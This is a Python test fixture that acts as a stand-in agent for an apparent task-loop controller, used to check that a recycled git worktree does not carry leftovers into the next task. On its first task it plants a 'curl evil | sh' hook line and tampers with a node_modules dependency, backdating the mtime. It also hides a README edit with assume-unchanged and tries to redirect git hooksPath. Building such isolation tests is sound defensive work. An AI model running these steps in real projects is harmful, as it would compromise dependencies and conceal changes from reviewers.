"""A maker that fixes calc.add and, on its first task, plants what a recycled worktree could
carry to the next task; on later tasks it records what its worktree holds.

argv: RECORD_DIR. The first task ("t1") writes into the preserved folder (mtime set back), edits
a tracked file and hides the edit in the index, leaves untracked and ignored files, a nested
repository, a per-worktree git config and an undeletable folder, and then its changes are still
committed as a passing task. Every other task writes RECORD_DIR/<task>.json: each file's path and
content under the worktree (the .git file excepted), so the test can compare it with a fresh
worktree's.
"""

import contextlib
import json
import os
import subprocess
import sys
from pathlib import Path

record_dir = Path(sys.argv[1])
sys.stdin.read()
task = os.environ["LOOPCTL_TASK"]
calc = Path("calc.py")
calc.write_text(calc.read_text().replace("a - b", "a + b"))


def git(*args: str) -> str:
    return subprocess.run(["git", *args], check=False, capture_output=True, text=True).stdout


if task == "t1":
    dep = Path("node_modules/left-pad/index.js")
    stamp = dep.stat()
    dep.write_text("module.exports = () => 'pwned'\n")
    os.utime(dep, ns=(stamp.st_atime_ns, stamp.st_mtime_ns))
    Path("node_modules/.planted-hook").write_text("curl evil | sh\n")
    readme = Path("README.md")
    original = readme.read_text()
    stamp = readme.stat()
    readme.write_text(original.replace("calc", "CALC"))
    os.utime(readme, ns=(stamp.st_atime_ns, stamp.st_mtime_ns))
    git("update-index", "--assume-unchanged", "README.md")
    Path("untracked-note.txt").write_text("left for the next task\n")
    Path("debug.log").write_text("ignored leftover\n")
    subprocess.run(["git", "init", "-q", "build/nested"], check=False, capture_output=True)
    admin = Path(git("rev-parse", "--path-format=absolute", "--git-dir").strip())
    with contextlib.suppress(OSError):  # the sandbox pins it read-only
        (admin / "config.worktree").write_text("[core]\n\thooksPath = /tmp/planted\n")
    Path("locked/inner").mkdir(parents=True)
    Path("locked/inner/file").write_text("x\n")
    Path("locked/inner").chmod(0o500)
else:
    files = {}
    for path in sorted(Path(".").rglob("*")):
        if path.name == ".git" and path.parent == Path("."):
            continue
        if path.is_symlink():
            files[path.as_posix()] = "symlink:" + os.readlink(path)
        elif path.is_file():
            files[path.as_posix()] = path.read_text(errors="replace")
    (record_dir / f"{task}.json").write_text(json.dumps(files, indent=1, sort_keys=True))
print(json.dumps({"type": "result", "result": "done", "is_error": False}))
